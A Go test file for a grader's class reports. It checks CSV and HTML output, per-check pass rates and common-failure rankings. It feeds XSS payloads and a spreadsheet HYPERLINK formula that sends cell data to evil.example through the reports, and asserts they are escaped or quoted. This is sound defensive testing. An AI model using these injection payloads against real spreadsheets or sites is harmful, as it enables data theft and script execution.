package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sidecar-lab/grader/grader/result"
)

// Hostile student directory names: each would run script, or a formula, if a report did not escape it.
const (
	xssImg    = `<img src=x onerror=alert(1)>`
	xssScript = `<script>alert(1)<\script>` // a directory name cannot hold "/"
	xssAttr   = `"><svg onload=alert(1)>`
	jsURL     = `javascript:alert(1)`
	formula   = `=HYPERLINK("http://evil.example/?"&A1,"click")`
)

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	require.NoError(t, err, "valid CSV:\n%s", b)
	return rows
}

// sample is a class of five: full marks (no ex3 graded), failures, a grading error, one not graded, a formula name.
func sample() *Class {
	return &Class{Dir: "students", GraderVersion: "0.4.0", Rubric: "default", StartedAt: startedAt, DurationS: 61.5, Parallel: 2,
		Students: []Student{
			{Name: "alice", Submission: fullMarks()},
			{Name: "bob", Submission: withFailures()},
			{Name: "carol", Submission: withError()},
			{Name: "dave"},
			{Name: formula, Submission: withFailures()},
		}}
}

func TestClassCSVShape(t *testing.T) {
	b, err := ClassCSV(sample())
	require.NoError(t, err)
	rows := readCSV(t, b)
	require.Len(t, rows, 6, "a header and one row per student")
	assert.Equal(t, []string{"name", "status", "score", "max_score", "ex1", "ex2", "ex3"}, rows[0])
	for _, r := range rows {
		assert.Len(t, r, 7)
	}
	a := fullMarks()
	assert.Equal(t, []string{"alice", "graded", fmt.Sprint(a.Score), fmt.Sprint(a.MaxScore),
		fmt.Sprint(a.Exercises[0].Score), fmt.Sprint(a.Exercises[1].Score), ""}, rows[1], "ex3 was not graded: empty cell")
	bob := withFailures()
	assert.Equal(t, []string{"bob", "graded", fmt.Sprint(bob.Score), fmt.Sprint(bob.MaxScore), fmt.Sprint(bob.Exercises[0].Score), "", ""}, rows[2])
	assert.Equal(t, []string{"carol", "error", "", "", "", "", ""}, rows[3], "no score is recorded for a grading error")
	assert.Equal(t, []string{"dave", "not graded", "", "", "", "", ""}, rows[4])
	assert.Equal(t, "'"+formula, rows[5][0], "a name a spreadsheet would run as a formula is quoted")
}

func TestClassCSVExerciseColumns(t *testing.T) {
	c := sample()
	c.Exercises = []string{"ex2"}
	b, err := ClassCSV(c)
	require.NoError(t, err)
	assert.Equal(t, []string{"name", "status", "score", "max_score", "ex2"}, readCSV(t, b)[0])
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"alice": "alice", "=1+2": "'=1+2", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
		"a\nb": "a\uFFFDb", "\rx": "\uFFFDx", "o'neil": "o'neil", "": "",
	} {
		assert.Equal(t, want, csvText(in), "%q", in)
	}
}

// rateClass: four students; check a passed by 3 of 4, b always skipped, c passed by 1 (1 error, 2 failed).
func rateClass() *Class {
	mk := func(a, b, c result.Status) *result.Submission {
		return submission(result.Exercise{ID: "ex1", Title: "Basic", Checks: []result.Check{
			check("ex1.a", "A", result.Static, a, 1, "a "+string(a), "fix a"),
			check("ex1.b", "B", result.Runtime, b, 2, "b "+string(b), ""),
			check("ex1.c", "C", result.Runtime, c, 3, "c "+string(c), "fix c"),
		}})
	}
	P, F, S, E := result.Passed, result.Failed, result.Skipped, result.Error
	return &Class{Students: []Student{
		{Name: "s1", Submission: mk(P, S, P)},
		{Name: "s2", Submission: mk(P, S, F)},
		{Name: "s3", Submission: mk(P, S, E)},
		{Name: "s4", Submission: mk(F, S, F)},
		{Name: "s5"}, // not graded: no verdicts
	}}
}

func TestCheckStatsAndPassRates(t *testing.T) {
	st := CheckStats(rateClass())
	require.Len(t, st, 3)
	assert.Equal(t, CheckStat{ID: "ex1.a", Exercise: "ex1", Title: "A", Kind: result.Static, MaxPoints: 1, Passed: 3, Failed: 1}, st[0])
	assert.Equal(t, CheckStat{ID: "ex1.b", Exercise: "ex1", Title: "B", Kind: result.Runtime, MaxPoints: 2, Skipped: 4}, st[1])
	assert.Equal(t, CheckStat{ID: "ex1.c", Exercise: "ex1", Title: "C", Kind: result.Runtime, MaxPoints: 3, Passed: 1, Failed: 2, Errors: 1}, st[2])
	r, ok := st[0].PassRate()
	assert.True(t, ok)
	assert.InDelta(t, 0.75, r, 1e-9)
	_, ok = st[1].PassRate()
	assert.False(t, ok, "skipped everywhere: no pass rate")
	r, _ = st[2].PassRate()
	assert.InDelta(t, 1.0/3, r, 1e-9, "errors are no verdict on a student")

	b, err := ChecksCSV(rateClass())
	require.NoError(t, err)
	rows := readCSV(t, b)
	assert.Equal(t, [][]string{
		{"check", "exercise", "title", "kind", "max_points", "passed", "failed", "skipped", "errors", "pass_rate"},
		{"ex1.a", "ex1", "A", "static", "1", "3", "1", "0", "0", "0.750"},
		{"ex1.b", "ex1", "B", "runtime", "2", "0", "0", "4", "0", ""},
		{"ex1.c", "ex1", "C", "runtime", "3", "1", "2", "0", "1", "0.333"},
	}, rows)
}

func TestCommonFailures(t *testing.T) {
	f := func(id, hint string) result.Check {
		return check(id, "title of "+id, result.Static, result.Failed, 1, "failed "+id, hint)
	}
	p := func(id string) result.Check {
		return check(id, "title of "+id, result.Static, result.Passed, 1, "ok", "")
	}
	var students []Student
	// c01..c12 in rubric order; cK is failed by K students for K <= 12 (c12 by 12), so the top 10 are c12..c03.
	for s := 0; s < 12; s++ {
		var checks []result.Check
		for k := 1; k <= 12; k++ {
			id := fmt.Sprintf("ex1.c%02d", k)
			if s < k {
				hint := "hint A"
				if s%3 == 0 {
					hint = "hint B"
				}
				if k == 5 && s < 3 {
					hint = "" // empty hints never win
				}
				checks = append(checks, f(id, hint))
			} else {
				checks = append(checks, p(id))
			}
		}
		students = append(students, Student{Name: fmt.Sprint("s", s), Submission: submission(result.Exercise{ID: "ex1", Checks: checks})})
	}
	got := CommonFailures(&Class{Students: students}, 10)
	require.Len(t, got, 10, "the top 10")
	for i, g := range got {
		k := 12 - i
		assert.Equal(t, fmt.Sprintf("ex1.c%02d", k), g.ID, "rank %d", i+1)
		assert.Equal(t, k, g.Count, g.ID)
		assert.Equal(t, "title of "+g.ID, g.Title)
	}
	// c12: students 0..11; "hint B" for s%3==0 (4 of them), "hint A" for the 8 others.
	assert.Equal(t, "hint A", got[0].Hint)
	assert.Equal(t, 8, got[0].HintCount)
	// c03: students 0,1,2 → B, A, A.
	assert.Equal(t, Failure{ID: "ex1.c03", Title: "title of ex1.c03", Count: 3, Hint: "hint A", HintCount: 2}, got[9])
	// c05: students 0..4, hints "", "", "", B, A → B and A once each: the first seen (B, student 3) wins.
	assert.Equal(t, Failure{ID: "ex1.c05", Title: "title of ex1.c05", Count: 5, Hint: "hint B", HintCount: 1}, got[7])

	// Ties keep rubric order; errors are not failures.
	tie := &Class{Students: []Student{
		{Name: "a", Submission: submission(result.Exercise{ID: "ex1", Checks: []result.Check{f("ex1.x", ""), f("ex1.y", "h")}})},
		{Name: "b", Submission: submission(result.Exercise{ID: "ex1", Checks: []result.Check{f("ex1.x", ""), f("ex1.y", "h"),
			check("ex1.z", "Z", result.Runtime, result.Error, 1, "broken", "")}})},
	}}
	got = CommonFailures(tie, 10)
	require.Len(t, got, 2)
	assert.Equal(t, "ex1.x", got[0].ID)
	assert.Equal(t, "", got[0].Hint, "no hint given")
	assert.Equal(t, "ex1.y", got[1].ID)
	assert.Empty(t, CommonFailures(&Class{}, 10))
}

// hostileClass: names and texts that try to break out of HTML.
func hostileClass() *Class {
	s := withFailures()
	s.Exercises[0].Checks[2].Hint = `<script>alert("hint")</script> & <b>bold</b>`
	e := withError()
	msg := `<img src=x onerror=alert("error")>`
	e.Error = &msg
	return &Class{Dir: `<i>dir</i>`, Rubric: `"><script>alert(2)</script>`, Students: []Student{
		{Name: xssImg, Submission: s},
		{Name: xssScript, Submission: fullMarks()},
		{Name: xssAttr, Submission: e},
		{Name: jsURL, Submission: fullMarks()},
	}}
}

var hrefAttr = regexp.MustCompile(`href="([^"]*)"`)

func TestClassHTMLEscapesEverything(t *testing.T) {
	b, err := ClassHTML(hostileClass())
	require.NoError(t, err)
	h := string(b)
	for _, raw := range []string{xssImg, xssScript, xssAttr, `<script>alert("hint")</script>`, `<img src=x onerror=alert("error")>`,
		`<i>dir</i>`, `<b>bold</b>`, `"><script>alert(2)`} {
		assert.NotContains(t, h, raw, "unescaped")
	}
	assert.NotContains(t, strings.ToLower(h), "<script", "no script element at all")
	assert.NotContains(t, strings.ToLower(h), "<img")
	assert.NotContains(t, strings.ToLower(h), "<svg")
	assert.Contains(t, h, "&lt;img src=x onerror=alert(1)&gt;", "the name is shown, as text")
	assert.Contains(t, h, `&lt;script&gt;alert(1)&lt;\script&gt;`)
	assert.Contains(t, h, "&lt;script&gt;alert(&#34;hint&#34;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;", "the hint is shown, as text")
	assert.Contains(t, h, "&lt;img src=x onerror=alert(&#34;error&#34;)&gt;", "the error is shown, as text")
	for _, m := range hrefAttr.FindAllStringSubmatch(h, -1) {
		assert.True(t, strings.HasPrefix(m[1], "./"), "relative link: %s", m[1])
		assert.NotContains(t, m[1], "<")
		assert.NotContains(t, m[1], `"`)
	}
	assert.Contains(t, h, `href="./javascript:alert%281%29/summary.md"`, "a scheme-like name stays a relative path")
}

func TestClassHTMLSelfContained(t *testing.T) {
	c := sample()
	c.Students = c.Students[:4] // not the formula, which holds a URL as text
	b, err := ClassHTML(c)
	require.NoError(t, err)
	h := strings.ToLower(string(b))
	for _, bad := range []string{"http://", "https://", "<script", "<link", "<img", "@import", "url(", "src="} {
		assert.NotContains(t, h, bad, "class.html loads nothing and runs nothing")
	}
	assert.Contains(t, h, `content="default-src 'none'; style-src 'unsafe-inline'"`, "a CSP forbids scripts and loads")
	assert.Contains(t, h, "<style>")
}

func TestClassHTMLContent(t *testing.T) {
	c := sample()
	b, err := ClassHTML(c)
	require.NoError(t, err)
	h := string(b)
	// One students-table row per student, with its total.
	body := between(t, h, `<section id="students">`, `</section>`)
	assert.Equal(t, len(c.Students), strings.Count(body, `<td class="name">`))
	a := fullMarks()
	assert.Contains(t, body, fmt.Sprintf(`<td class="score total full" title="%d of %d points">%d/%d</td>`, a.Score, a.MaxScore, a.Score, a.MaxScore))
	bob := withFailures()
	ex1 := bob.Exercises[0]
	assert.Contains(t, body, fmt.Sprintf(`<td class="score part" title="ex1: %d of %d points">%d/%d</td>`, ex1.Score, ex1.MaxScore, ex1.Score, ex1.MaxScore))
	assert.Contains(t, body, `<td class="score total err"`, "carol's grading error")
	assert.Contains(t, body, `<code class="adv" title="advisory: 0 points">adv.probes</code>`, "a 0-point failure is told apart")
	assert.Contains(t, body, `<code>ex1.processed</code>`)

	checks := between(t, h, `<section id="checks">`, `</section>`)
	assert.Equal(t, len(CheckStats(c)), strings.Count(checks, "<tr>")-1, "one row per check")
	assert.Contains(t, checks, `style="width: 0%"></i></span>0%`, "ex1.processed: 0 of 2 passed")

	fails := between(t, h, `<section id="failures">`, `</section>`)
	assert.Contains(t, fails, "<code>ex1.processed</code>")
	assert.Contains(t, fails, "2 of 5")
	assert.Contains(t, fails, "read the log with `tail -F`")

	errs := between(t, h, `<section id="errors">`, `</section>`)
	assert.Contains(t, errs, "carol")
	assert.Contains(t, errs, "dave")
	assert.Contains(t, errs, "it was not graded")
}

func TestClassHTMLEmpty(t *testing.T) {
	b, err := ClassHTML(&Class{})
	require.NoError(t, err)
	assert.Contains(t, string(b), `<td colspan="6">No submissions.</td>`)
	assert.Contains(t, string(b), "No check was failed.")
	assert.NotContains(t, string(b), `id="errors"`)
}

func TestWriteClass(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "out")
	require.NoError(t, WriteClass(dir, sample()))
	for _, f := range ClassFiles {
		fi, err := os.Stat(filepath.Join(dir, f))
		require.NoError(t, err, f)
		assert.Positive(t, fi.Size(), f)
	}
	ents, err := os.ReadDir(dir)
	require.NoError(t, err)
	assert.Len(t, ents, len(ClassFiles), "no temporary file left behind")
	assert.Error(t, WriteClass(dir, nil))
}

func between(t *testing.T, s, from, to string) string {
	t.Helper()
	i := strings.Index(s, from)
	require.GreaterOrEqual(t, i, 0, "missing %s", from)
	j := strings.Index(s[i:], to)
	require.GreaterOrEqual(t, j, 0, "missing %s after %s", to, from)
	return s[i : i+j]
}
